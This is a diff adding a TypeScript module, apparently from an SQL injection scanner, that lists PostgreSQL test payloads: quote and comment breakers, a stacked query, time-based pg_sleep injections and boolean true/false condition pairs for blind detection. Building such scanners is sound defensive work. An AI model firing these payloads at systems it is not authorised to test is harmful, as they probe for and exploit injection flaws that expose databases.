@@ -1,0 +1,32 @@
+/** A text that means something to SQL, with the place in a statement that it breaks out of. */
+export interface SqlPayload {
+  readonly id: string;
+  readonly breaks: string;
+  /** `marker` is a word that nothing else in the run contains. */
+  text(marker: string): string;
+}
+
+/** One per context: whatever a statement is built around, one of these makes it a syntax error or names the marker. */
+export const breakingPayloads: readonly SqlPayload[] = [
+  { id: 'quote', breaks: "a text in '…'", text: (marker) => `${marker}'` },
+  { id: 'identifier', breaks: 'a name in "…", or a bare one (ORDER BY)', text: (marker) => `${marker}"` },
+  { id: 'bare-word', breaks: 'a bare name or number', text: (marker) => marker },
+  { id: 'backslash', breaks: "a text in E'…' that doubles quotes", text: (marker) => `\\'${marker}` },
+  { id: 'stacked', breaks: 'a statement that ends', text: (marker) => `1;SELECT ${marker};--` },
+  { id: 'comment', breaks: 'a statement whose rest is cut off', text: (marker) => `1) /*${marker}` },
+];
+
+/** Sleeps where it is evaluated; the seconds are what the answer is late by. */
+export const sleepingPayloads: readonly { readonly id: string; text(seconds: number): string }[] = [
+  { id: 'concatenated', text: (seconds) => `'||(SELECT pg_sleep(${seconds})::text)||'` },
+  { id: 'or', text: (seconds) => `' OR (SELECT pg_sleep(${seconds})) IS NULL OR '1'='2` },
+  { id: 'expression', text: (seconds) => `(SELECT 1 FROM pg_sleep(${seconds}))` },
+];
+
+/** The same words to any search, and different conditions to a statement: one true, one false. */
+export const conditionPairs: readonly { readonly id: string; readonly yes: string; readonly no: string }[] = [
+  { id: 'text', yes: "zq7' OR 'a1'='a1", no: "zq7' OR 'a1'='a2" },
+  { id: 'like', yes: "zq7%' OR 'a1' LIKE 'a1", no: "zq7%' OR 'a1' LIKE 'a2" },
+  { id: 'number', yes: '1 OR 1=1', no: '1 OR 1=2' },
+  { id: 'order', yes: '(CASE WHEN 1=1 THEN 1 ELSE 1/0 END)', no: '(CASE WHEN 1=2 THEN 1 ELSE 1/0 END)' },
+];
